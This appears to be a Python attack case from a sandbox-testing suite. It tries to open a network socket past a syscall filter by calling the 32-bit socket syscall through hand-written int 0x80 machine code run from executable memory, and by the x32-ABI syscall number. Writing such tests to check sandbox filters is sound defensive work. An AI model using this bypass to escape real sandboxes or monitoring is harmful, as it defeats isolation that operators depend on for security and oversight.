"""Makes a socket by the kernel's 32-bit calls, which have other numbers than those that a filter knows."""

import ctypes
import mmap

from attack import each, solo, syscall

SOCKET_32, SOCKET_X32 = 359, 0x40000000 | 41
AF_INET, SOCK_DGRAM = 2, 2


def by_interrupt():
    code = b"\x53\xb8" + SOCKET_32.to_bytes(4, "little") + b"\xbb" + AF_INET.to_bytes(4, "little")
    code += b"\xb9" + SOCK_DGRAM.to_bytes(4, "little") + b"\x31\xd2\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    result = call()
    if result < 0:
        raise OSError(-result, "int 0x80")


def attack():
    calls = [by_interrupt, lambda: syscall(SOCKET_X32, AF_INET, SOCK_DGRAM, 0)]
    return each(calls, lambda call: call())


solo(attack)
